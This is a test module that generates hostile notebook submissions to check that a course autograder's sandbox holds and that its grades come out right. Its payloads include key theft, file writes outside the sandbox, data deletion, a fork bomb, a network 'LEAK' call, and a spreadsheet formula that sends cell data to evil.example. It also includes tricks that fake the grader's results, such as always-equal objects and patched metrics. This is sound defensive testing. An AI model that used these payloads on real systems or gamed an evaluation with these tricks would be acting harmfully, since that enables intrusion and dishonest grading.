"""A corpus of hostile and broken submissions, graded in one batch with good ones.

Each case is a function decorated with :func:`case`: its docstring says what it
attacks and what must come out; the decorator records the expected outcome in
``grades.csv`` (status prefix, words of the message, total).  :func:`write_corpus`
writes every case (and the good submissions) into a folder, named by the course's
convention ``<name>_lab_07.ipynb`` so that each lands in its own group.

The tiny lab these notebooks are written for (:data:`LAB_TOML`) has three
questions: ``answer`` (integer 42, 2 points), ``ratio`` (number 0.25, 1 point) and
``acc`` (accuracy of ``model`` on the ``af`` test set, measured by the grader, 2
points, linear from 0 to 1).  A notebook that only sets ``answer`` scores 2.

Example::

    from corpus import Context, write_corpus
    cases = write_corpus(Context(subs=..., lab=..., out=..., data=..., port=...))
"""
from __future__ import annotations

import json
import textwrap
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat
from nbformat.v4 import new_code_cell, new_notebook

LAB_NUMBER = 7
KEY_SECRET = "KEYSECRET-9f1c2b7e-never-in-output"
SOLUTION_SECRET = "SOLUTIONSECRET-41d8a0c3-never-in-output"
GOOD_SECRET = "GOODGROUPSECRET-5e7d-private-to-its-group"
SEED = 1234

LAB_TOML = """
[lab]
number = 7
title = "corpus"
notebook = "lab07.ipynb"

[limits]
cell_timeout = 10
notebook_timeout = 30
memory = "2GiB"
max_processes = 64
output_cap = "2MiB"

[[question]]
id = "answer"
points = 2
kind = "integer"
prompt = "six times seven"
answer = "answer"

[[question]]
id = "ratio"
points = 1
kind = "number"
prompt = "a ratio"
answer = "ratio"
tolerance = { abs = 0.01 }

[[question]]
id = "acc"
points = 2
kind = "metric"
prompt = "accuracy of your model on af"
model = "model"
task = "af"
metric = "accuracy"
"""

#: the af task's shape (reference.data.load_af defaults)
AF_SHAPE = dict(window=30, channels=1, n_classes=2)

HONEST_MODEL = f"""
import torch
from reference.models import build_model
torch.manual_seed({SEED})
model = build_model("mlp", {AF_SHAPE['window']}, {AF_SHAPE['channels']}, {AF_SHAPE['n_classes']})
"""


def write_lab(folder: Path) -> Path:
    """The tiny lab: assignment.toml, a solution notebook and key.json, each with a secret."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "assignment.toml").write_text(LAB_TOML)
    nbformat.write(notebook("answer = 6 * 7", f"ratio = 0.25  # {SOLUTION_SECRET}",
                            HONEST_MODEL, name="Solution Author"), folder / "lab07.ipynb")
    (folder / "key.json").write_text(json.dumps({
        "note": KEY_SECRET,
        "questions": {"answer": {"expected": 42},
                      "ratio": {"expected": 0.25, "abs_tol": 0.01},
                      "acc": {"full": 1.0, "zero": 0.0}}}))
    return folder


def notebook(*sources: str, name: str | None = None, group: bool = True) -> nbformat.NotebookNode:
    cells = []
    if group:
        cell = new_code_cell(f"GROUP = [{name!r}]")
        cell.metadata["grader"] = {"group": True}
        cells.append(cell)
    cells += [new_code_cell(textwrap.dedent(s).strip()) for s in sources]
    return new_notebook(cells=cells)


@dataclass
class Context:
    """Where things are, so that attacks can aim at them by absolute path."""
    subs: Path
    lab: Path
    out: Path
    data: Path
    port: int
    repo: Path = Path(__file__).resolve().parents[2]


@dataclass
class Case:
    name: str                       # family name of the group; file <name>_lab_07.ipynb
    doc: str                        # what it attacks, what must happen
    build: Callable[[Context], object]
    status: str                     # grades.csv status starts with this
    total: float
    says: tuple[str, ...] = ()      # words of the status column (message), case-insensitive
    flags: tuple[str, ...] = ()     # words of the flags column
    good: bool = False
    model: bool = False             # exports the honest model: acc points = 2 x measured accuracy
    path: str | None = None         # the file, when not <name>_lab_07.ipynb at the top
    own_group: bool = False         # keeps the group cell it builds (hostile members)

    @property
    def file(self) -> str:
        return self.path or f"{self.name}_lab_{LAB_NUMBER:02d}.ipynb"


CASES: list[Case] = []


def case(status: str, total: float, says=(), flags=(), good=False, model=False, path=None,
         own_group=False):
    def deco(fn):
        name = fn.__name__.replace("_", "")
        CASES.append(Case(name, " ".join((fn.__doc__ or "").split()), fn, status, total,
                          tuple(says), tuple(flags), good, model, path, own_group))
        return fn
    return deco


def nb(name: str, *sources: str, group: bool = True) -> nbformat.NotebookNode:
    return notebook(*sources, name=f"Case {name.replace('_', '').capitalize()}", group=group)


# ---------------------------------------------------------------- good submissions

@case("ok", 3, good=True, model=True)
def agood(ctx):
    """A correct submission with an honest (untrained, seeded) model: 3 points + the
    grader's accuracy of that model; runs first, beside the attacks."""
    return nb("agood", f"# {GOOD_SECRET}\nanswer = 42", "ratio = 0.25", HONEST_MODEL)


@case("ok", 3, good=True)
def mgood(ctx):
    """A correct submission without a model, in the middle of the batch: 3 points."""
    return nb("mgood", f"# {GOOD_SECRET}\nanswer = 6 * 7", "ratio = 1 / 4")


@case("ok", 3, good=True, model=True)
def zgood(ctx):
    """The same as agood, graded last: its grade must equal agood's."""
    return nb("zgood", f"# {GOOD_SECRET}\nanswer = 42", "ratio = 0.251", HONEST_MODEL)


# ---------------------------------------------------------------- unreadable files

@case("invalid", 0, says=("not a readable notebook", "notjson_lab_07.ipynb"))
def not_json(ctx):
    """Plain text, not JSON: graded 0, the message names the file."""
    return b"this is my homework, I could not save it as a notebook\n"


@case("invalid", 0, says=("not a readable notebook", "json"))
def truncated(ctx):
    """The first half of a valid notebook (an interrupted upload): refused as unreadable
    JSON.  (ingest says 'truncated' only when the cut falls between two JSON tokens;
    here it falls inside a string and reads 'damaged JSON'.)"""
    text = nbformat.writes(nb("truncated", "answer = 42", "ratio = 0.25"))
    return text[: len(text) // 2].encode()


@case("invalid", 0, says=("format 3",))
def nbformat_three(ctx):
    """A Jupyter format 3 notebook (worksheets): refused with 'format 3', open and resave."""
    return json.dumps({"metadata": {}, "nbformat": 3, "nbformat_minor": 0, "worksheets": [
        {"cells": [{"cell_type": "code", "input": "answer = 42", "language": "python",
                    "outputs": []}], "metadata": {}}]}).encode()


@case("invalid", 0, says=("empty file",))
def empty(ctx):
    """A zero-byte file."""
    return b""


@case("invalid", 0, says=("pdf",))
def pdf(ctx):
    """The PDF report uploaded under the notebook's name."""
    return (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            b"trailer << /Root 1 0 R >>\n%%EOF\n")


@case("invalid", 0, says=("larger than",))
def huge(ctx):
    """A notebook of just over 100 MiB (a huge embedded output): refused before parsing.
    Written at test time only."""
    return None  # written by write_corpus, streamed (not built in memory)


@case("ok", 0, flags=("group cell missing",))
def no_cells(ctx):
    """A valid notebook with no cell at all: runs, scores 0, flagged for the group cell."""
    return nbformat.writes(new_notebook(cells=[])).encode()


@case("ok", 3, flags=("group cell missing",))
def no_group(ctx):
    """Right answers but no group cell: graded on the answers, flagged; the group is
    known by the file name."""
    return nb("nogroup", "answer = 42", "ratio = 0.25", group=False)


# ---------------------------------------------------------------- runaway code

@case("timeout", 2, says=("stopped in cell 2", "did not finish within 10 s"))
def infinite_loop(ctx):
    """`while True: pass` after the answer: killed at the 10 s cell limit; the answer
    set before counts, `ratio` (after the loop) is not reached."""
    return nb("infiniteloop", "answer = 42", "while True:\n    pass", "ratio = 0.25")


@case("timeout", 2, says=("did not finish within 10 s",))
def sleep_forever(ctx):
    """`time.sleep(10**6)`: killed at the cell limit."""
    return nb("sleepforever", "answer = 42", "import time\ntime.sleep(10**6)")


@case("timeout", 2, says=("did not finish within 10 s",))
def unkillable(ctx):
    """Ignores SIGINT and SIGTERM, then spins: the grader kills with SIGKILL anyway."""
    return nb("unkillable", "answer = 42", """
        import signal
        for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
            signal.signal(s, signal.SIG_IGN)
        while True:
            pass""")


@case("timeout", 2, says=("notebook did not finish within 30 s",))
def slow_cells(ctx):
    """Four honest-looking cells of 9 s each: every cell is within its limit, the whole
    notebook is not (30 s)."""
    return nb("slowcells", "answer = 42", *["import time\ntime.sleep(9)"] * 4)


@case("errors", 2, says=("cell 1", "StdinNotImplementedError"))
def asks_input(ctx):
    """`input()` waits for a keyboard that is not there: fails at once (no stdin), the
    next cells run."""
    return nb("asksinput", "name = input('your name? ')", "answer = 42")


@case("errors", 2, says=("MemoryError",))
def memory_bomb(ctx):
    """Allocates past the 2 GiB cap, at once and step by step: MemoryError, the kernel
    survives and the next cell runs."""
    return nb("memorybomb", "x = bytearray(3 * 2**30)", """
        chunks = []
        while True:
            chunks.append(bytearray(64 * 2**20))""", "del chunks\nanswer = 42")


@case("errors", 2, says=("BlockingIOError",))
def fork_bomb(ctx):
    """Forks (at most 300 times, so never a danger even unsandboxed) children that
    sleep: stopped by the 64-process cap (BlockingIOError); the children die with the
    sandbox."""
    return nb("forkbomb", """
        import os, time
        kids = []
        for i in range(300):
            pid = os.fork()
            if pid == 0:
                time.sleep(60)
                os._exit(0)
            kids.append(pid)""", "answer = 42")


@case("ok", 2)
def daemon(ctx):
    """Starts a detached `sleep 600` in a new session (a would-be leftover process): it
    must not survive the sandbox."""
    return nb("daemon", """
        import subprocess
        subprocess.Popen(["sleep", "613"], start_new_session=True,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)""", "answer = 42")


@case("dead", 2, says=("stopped in cell 2", "kernel died"))
def exit_one(ctx):
    """`os._exit(1)` after the answer: the kernel dies; status dead, the answer counts."""
    return nb("exitone", "answer = 42", "import os\nos._exit(1)")


@case("dead", 2, says=("kernel died", "SIGSEGV"))
def segfault(ctx):
    """Reads address 0 through ctypes: SIGSEGV, status dead."""
    return nb("segfault", "answer = 42", "import ctypes\nctypes.string_at(0)")


@case("dead", 3, says=("stopped in cell 4", "kernel died"), model=True)
def crash_after_two(ctx):
    """Two answers and the model, then a cell that changes the answer and the model's
    weights and dies: graded as after the cell before (3 points and the honest model's
    accuracy, as agood); the status stays dead and names the cell."""
    return nb("crashaftertwo", "answer = 42", "ratio = 0.25", HONEST_MODEL, """
        import os, torch
        answer = 0
        with torch.no_grad():
            for p in model.parameters():
                p.add_(1.0)
        os._exit(1)""")


@case("timeout", 3, says=("stopped in cell 3", "did not finish within 10 s"))
def hang_after_two(ctx):
    """Two answers, then a cell that never ends before the model is made: 3 points, the
    metric question not reached."""
    return nb("hangaftertwo", "answer = 42", "ratio = 0.25", "while True:\n    pass",
              HONEST_MODEL)


@case("ok", 3, says=(), flags=())
def big_output(ctx):
    """Prints 50 MB: the output is cut to the cap with a note, the answers still count."""
    return nb("bigoutput", "for i in range(50):\n    print('x' * 10**6)", "answer = 42",
              "ratio = 0.25")


# ---------------------------------------------------------------- escaping the sandbox

@case("ok", 2)
def network(ctx):
    """Connects to a listener the test opened on 127.0.0.1 (and to 1.1.1.1): no route;
    the listener must see nothing."""
    return nb("network", f"""
        import socket
        for host in ("127.0.0.1", "1.1.1.1"):
            try:
                socket.create_connection((host, {ctx.port}), timeout=2).sendall(b"LEAK")
                print("CONNECTED", host)
            except OSError as exc:
                print("refused", host, exc)""", "answer = 42")


@case("ok", 2)
def steal_key(ctx):
    """Reads key.json and the solution notebook by absolute path, and searches /tmp and
    /work for them: they are hidden, nothing of them may appear in the output."""
    return nb("stealkey", f"""
        import glob, os
        for p in [{str(ctx.lab / 'key.json')!r}, {str(ctx.lab / 'lab07.ipynb')!r},
                  {str(ctx.lab / 'assignment.toml')!r}]:
            try:
                print(open(p).read())
            except OSError as exc:
                print("no", p, exc)
        found = []
        for top in ("/tmp", "/work", "/root", "/home"):
            for root, dirs, files in os.walk(top):
                dirs[:] = [d for d in dirs if d not in (".venv", ".git", "node_modules", "data")]
                if root.count("/") > 8:
                    dirs[:] = []
                found += [os.path.join(root, f) for f in files
                          if f in ("key.json", "lab07.ipynb") and "corpus" not in root]
        for p in found:
            try:
                print(p, open(p).read())
            except OSError as exc:
                print("no", p, exc)""", "answer = 42")


@case("ok", 2)
def other_groups(ctx):
    """Lists and reads the other groups' uploads, executed notebooks, work dirs and the
    grader's database: all hidden."""
    return nb("othergroups", f"""
        import glob, os
        for pattern in [{str(ctx.subs) + '/*'!r}, {str(ctx.out) + '/**'!r},
                        "/tmp/grader-work-*/*/*", "/tmp/*/*"]:
            for p in glob.glob(pattern, recursive=True)[:200]:
                print(p)
                if os.path.isfile(p):
                    try:
                        print(open(p, errors="replace").read()[:100000])
                    except OSError as exc:
                        print("no", exc)""", "answer = 42")


@case("ok", 2)
def write_outside(ctx):
    """Writes a file into the lab, the uploads, the output folder, the data, the
    repository, /root and /etc: every write fails or lands in a private tmpfs."""
    targets = [ctx.lab, ctx.subs, ctx.out, ctx.data, ctx.repo, Path("/root"), Path("/etc"),
               ctx.lab.parent]
    return nb("writeoutside", f"""
        import os
        for d in {[str(t) for t in targets]!r}:
            try:
                with open(os.path.join(d, "PWNED-by-writeoutside"), "w") as f:
                    f.write("pwned")
                print("wrote", d)
            except OSError as exc:
                print("no", d, exc)""", "answer = 42")


@case("ok", 2)
def delete_data(ctx):
    """Deletes, truncates and renames the PhysioNet files in GRADER_DATA: read-only,
    nothing changes."""
    return nb("deletedata", """
        import os, shutil
        data = os.environ["GRADER_DATA"]
        for root, dirs, files in os.walk(data):
            for f in files:
                p = os.path.join(root, f)
                for act in (lambda: open(p, "w").close(), lambda: os.rename(p, p + ".x"),
                            lambda: os.remove(p)):
                    try:
                        act()
                    except OSError:
                        pass
        shutil.rmtree(data, ignore_errors=True)
        print(os.listdir(data))""", "answer = 42")


# ---------------------------------------------------------------- answers that are not values

@case("ok", 3)
def tensor_scalar(ctx):
    """Answers as 0-d torch tensors (`torch.tensor(42)`): read as the plain numbers, full
    marks for the values."""
    return nb("tensorscalar", "import torch\nanswer = torch.tensor(42)\nratio = torch.tensor(0.25)")


@case("ok", 1)
def numpy_array(ctx):
    """`answer = np.array([42])` is a list, not a whole number (0); a numpy float32 0.25
    is a number (1 point)."""
    return nb("numpyarray", "import numpy as np\nanswer = np.array([42])\nratio = np.float32(0.25)")


@case("ok", 0)
def nested_list(ctx):
    """Nested lists `[[42]]` and `[0.25]`: wrong type, 0."""
    return nb("nestedlist", "answer = [[42]]\nratio = [0.25]")


@case("ok", 0)
def nan_answers(ctx):
    """NaN for every answer: 0, without crashing the comparison."""
    return nb("nananswers", "answer = float('nan')\nratio = float('nan')")


@case("ok", 0)
def inf_answers(ctx):
    """+inf and -inf: 0."""
    return nb("infanswers", "answer = float('inf')\nratio = -float('inf')")


@case("ok", 0, says=("answer 'ratio' refused", "cannot be a PyTorch model"))
def always_equal(ctx):
    """An object whose `__eq__` always returns True (as `ratio` and as `model`), and an
    int subclass doing the same (as `answer`): the object is refused, the int reduced
    to its plain value 7; never equal, 0."""
    return nb("alwaysequal", """
        class AlwaysEqual:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = object.__hash__
        class SneakyInt(int):
            def __eq__(self, other): return True
            __hash__ = int.__hash__
        answer = SneakyInt(7)
        ratio = AlwaysEqual()
        model = AlwaysEqual()""")


# ---------------------------------------------------------------- cheating the measurement

@case("ok", 3, model=True)
def monkeypatch(ctx):
    """Patches torch, reference.metrics, reference.training and sklearn so that every
    metric says 100%, and prints it: the grader measures in its own process, so its
    accuracy equals that of the honest twin (agood), not 1.0."""
    return nb("monkeypatch", "answer = 42\nratio = 0.25", HONEST_MODEL, """
        import sys, torch, numpy as np
        import reference.metrics as rm, reference.training as rt
        def perfect(*a, **k): return 1.0
        for mod in (rm, rt):
            for n in dir(mod):
                if not n.startswith("_") and callable(getattr(mod, n)) and n not in ("build_model",):
                    try: setattr(mod, n, perfect)
                    except Exception: pass
        rt.evaluate = lambda *a, **k: {"accuracy": 1.0, "balanced_accuracy": 1.0}
        try:
            import sklearn.metrics as sm
            sm.accuracy_score = perfect
        except ImportError:
            pass
        torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
        torch.argmax = lambda *a, **k: torch.zeros(1, dtype=torch.long)
        print("accuracy", rt.evaluate(model))""")


@case("ok", 3, model=True)
def model_in_train_mode_with_hooks(ctx):
    """Registers a forward hook that replaces outputs, and a `state_dict` override that
    returns the honest weights: the grader rebuilds the model from its config and
    weights, so the hooks do nothing; same accuracy as agood."""
    return nb("hooks", "answer = 42\nratio = 0.25", HONEST_MODEL, """
        model.register_forward_hook(lambda m, i, o: o * 0 + 100)
        model.train()""")


@case("ok", 3, says=("model 'model' not exported", "Linear"))
def not_exportable(ctx):
    """`model` is a plain `nn.Linear(30, 2)`: it cannot take the task's (batch, 30, 1)
    windows, so the ONNX export fails; the metric question gets 0 with the reason, the
    rest is graded."""
    return nb("notexportable", "answer = 42\nratio = 0.25",
              "import torch\nmodel = torch.nn.Linear(30, 2)")


@case("ok", 3, model=True)
def sequential_mlp(ctx):
    """The honest MLP's layers in a plain `nn.Sequential` (no build_model config): exported
    as ONNX in the kernel, measured by the grader with onnxruntime: the honest accuracy."""
    return nb("sequentialmlp", "answer = 42\nratio = 0.25", HONEST_MODEL,
              "model = torch.nn.Sequential(*model.net)")


@case("ok", 3, model=True)
def hostile_forward(ctx):
    """A hand-written module whose forward, run by the ONNX export in the kernel, connects
    to the test's listener and writes into the lab, the uploads, the output and the
    repository: it runs inside the sandbox only (nothing reaches them), and the model is
    measured as the honest one it wraps."""
    targets = [str(t) for t in (ctx.lab, ctx.subs, ctx.out, ctx.repo, ctx.lab.parent)]
    return nb("hostileforward", "answer = 42\nratio = 0.25", HONEST_MODEL, f"""
        import os, socket
        class Sneaky(torch.nn.Module):
            def __init__(self, net):
                super().__init__()
                self.net = net
            def forward(self, x):
                try:
                    socket.create_connection(("127.0.0.1", {ctx.port}), timeout=1).sendall(b"LEAK")
                except OSError:
                    pass
                for d in {targets!r}:
                    try:
                        with open(os.path.join(d, "PWNED-by-writeoutside"), "w") as f:
                            f.write("pwned at export")
                    except OSError:
                        pass
                return self.net(x)
        model = Sneaky(model.net)""")


@case("ok", 3)
def forged_config(ctx):
    """A build_model model whose config was edited to ask for a 10**9-wide network (and
    a pickled payload beside it): the grader refuses the config and never unpickles."""
    return nb("forgedconfig", "answer = 42\nratio = 0.25", HONEST_MODEL,
              "model.config = dict(model.config, kwargs={'hidden': 10**9})")


# ---------------------------------------------------------------- text that misleads (issue 27)

def _json(node: nbformat.NotebookNode) -> bytes:
    """The notebook as JSON with every non-ASCII character escaped: a lone surrogate
    (``\\ud800``) is valid JSON, which nbformat itself cannot write."""
    return json.dumps(node).encode()


@case("ok", 3, own_group=True)
def surrogate_group(ctx):
    """A lone surrogate in the group cell (a JSON "\\ud800"): once stopped the ingest of
    the whole class; now read, stored, shown and run with U+FFFD in its place, the
    answers graded."""
    node = notebook("answer = 42", "ratio = 0.25")
    node.cells[0].source = 'GROUP = ["Case Surrogate\ud800group"]'   # the character itself
    return _json(node)


@case("errors", 1, says=("cell 4",))
def surrogate_answer(ctx):
    """Lone surrogates in an answer string, printed output and an exception's message:
    once crashed storing the evidence (and every rerun ran it again); now graded:
    the text answer is not a whole number, ratio counts, the error is reported."""
    return nb("surrogateanswer", 'answer = "4\\ud8002"', "ratio = 0.25",
              'print("out \\ud800 [/] =1+1")', 'raise ValueError("bad \\udfff [/]")')


@case("ok", 3, flags=("file name",), path="markup[bold]x[/]_lab_07.ipynb", own_group=True)
def markup_name(ctx):
    """Rich console markup in the file name and the group cell (`[/]`, `[link=...]`):
    once crashed `grade` mid-batch and every later `rescore`; now printed as written."""
    return notebook("answer = 42", "ratio = 0.25",
                    name="Case [/]Markup [link=file:///etc/passwd]x[/link]")


@case("ok", 3, own_group=True)
def formula(ctx):
    """Members that a spreadsheet would run (`=HYPERLINK(...)`, `@SUM`): written into
    grades.csv as text (a leading '), never as a formula."""
    return notebook("answer = 42", "ratio = 0.25",
                    name='=HYPERLINK("http://evil.example/?"&A1,"Case Formula")')


@case("ok", 3, path="one/twin_lab_07.ipynb")
def twin_one(ctx):
    """Two uploads of one file name in different folders: each keeps its own executed
    notebook (executed/one/..., executed/two/...)."""
    return nb("twinone", "print('I am twin one')\nanswer = 42", "ratio = 0.25")


@case("ok", 2, path="two/twin_lab_07.ipynb")
def twin_two(ctx):
    """The other twin, with other answers and output."""
    return nb("twintwo", "print('I am twin two')\nanswer = 42", "ratio = 0.5")


@case("ok", 0, flags=("claims the same member",), own_group=True)
def claims_mgood(ctx):
    """A group cell naming the good group mgood's member: both are flagged; neither takes
    the other's report name (mgood_lab_07.pdf goes to no one)."""
    return notebook("answer = 0", name="Case Mgood")


@case("ok", 3)
def huge_figures(ctx):
    """Twelve 4000x4000 16-bit PNGs: the report keeps what fits its pixel budget,
    downscaled; the answers are graded."""
    return nb("hugefigures", "answer = 42\nratio = 0.25", """
        import io
        import numpy as np
        from PIL import Image
        from IPython.display import Image as Shown, display
        ramp = (np.add.outer(np.arange(4000), np.arange(4000)) * 8).astype(np.uint16)
        buf = io.BytesIO()
        Image.fromarray(ramp).save(buf, format="PNG")
        for _ in range(12):
            display(Shown(data=buf.getvalue(), format="png"))""")


# ---------------------------------------------------------------- writing

def write_corpus(ctx: Context) -> list[Case]:
    """Write every case into ``ctx.subs``; returns the cases."""
    ctx.subs.mkdir(parents=True, exist_ok=True)
    for c in CASES:
        path = ctx.subs / c.file
        if c.name == "huge":
            _write_huge(path)
            continue
        content = c.build(ctx)
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, nbformat.NotebookNode) and not c.own_group:
            for cell in content.cells:
                if cell.metadata.get("grader", {}).get("group"):
                    cell.source = f"GROUP = ['Case {c.name.capitalize()}']"
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            nbformat.write(content, path)
    return list(CASES)


def _write_huge(path: Path, size: int = 100 * 2**20 + 4096) -> None:
    """A valid notebook whose one output is ``size`` bytes of text, streamed to disk."""
    marker = "@@HUGE@@"
    node = nb("huge", "answer = 42")
    node.cells[1].outputs = [nbformat.v4.new_output("stream", name="stdout", text=marker)]
    head, tail = nbformat.writes(node).split(marker)
    with open(path, "w") as f:
        f.write(head)
        chunk = "y" * 2**20
        for _ in range(size // len(chunk) + 1):
            f.write(chunk)
        f.write(tail)
